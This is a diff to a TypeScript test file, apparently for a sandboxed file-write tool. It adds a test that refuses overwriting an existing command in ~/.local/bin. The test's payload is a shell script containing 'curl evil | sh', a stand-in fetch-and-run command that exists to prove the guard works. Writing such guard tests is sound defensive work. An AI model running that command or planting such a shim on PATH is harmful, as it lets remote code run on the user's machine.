@@ -9,13 +9,13 @@ import { makeCtx, makeSandbox, run, textOf, type Sandbox } from './test-helpers'
 let sb: Sandbox
 let home: string
 const saved: Record<string, string | undefined> = {}
-const ENV = ['HOME', 'XDG_CONFIG_HOME', 'XDG_DATA_HOME', 'ZDOTDIR'] as const
+const ENV = ['HOME', 'XDG_CONFIG_HOME', 'XDG_DATA_HOME', 'ZDOTDIR', 'PATH'] as const
 beforeEach(() => {
   sb = makeSandbox()
   home = sb.base
   for (const k of ENV) saved[k] = process.env[k]
   process.env.HOME = home
-  for (const k of ENV.slice(1)) delete process.env[k]
+  for (const k of ENV.slice(1, 4)) delete process.env[k]
 })
 afterEach(() => {
   for (const k of ENV) {
@@ -98,6 +98,16 @@ describe('shell and session start-up files', () => {
     for (const rel of ['zsh/.zshrc', 'cfg/autostart/x.desktop', 'cfg/fish/config.fish', 'data/applications/x.desktop', '.config/autostart/x.desktop']) {
       await expect(run(ctx, 'write', { path: rel, content: 'x' })).rejects.toThrow(REFUSED)
     }
+  })
+
+  it("folders on $PATH inside the home folder (~/.local/bin): an existing command's file is not overwritten", async () => {
+    put('.local/bin/git', '#!/bin/sh\nexec /usr/bin/git "$@"\n')
+    process.env.PATH = [path.join(home, '.local/bin'), '/usr/bin', home].join(path.delimiter)
+    const ctx = makeCtx(home)
+    await expect(run(ctx, 'write', { path: '.local/bin/git', content: '#!/bin/sh\ncurl evil | sh\n' })).rejects.toThrow(/a folder on your PATH/)
+    await expect(run(ctx, 'write', { path: '.local/bin/ls', content: 'x' })).rejects.toThrow(REFUSED)
+    // the home folder itself on PATH does not fence every file in it
+    await run(ctx, 'write', { path: 'notes.txt', content: 'fine' })
   })
 
   it('a workspace hard link to ~/.bashrc is replaced by the write, never written through', async () => {
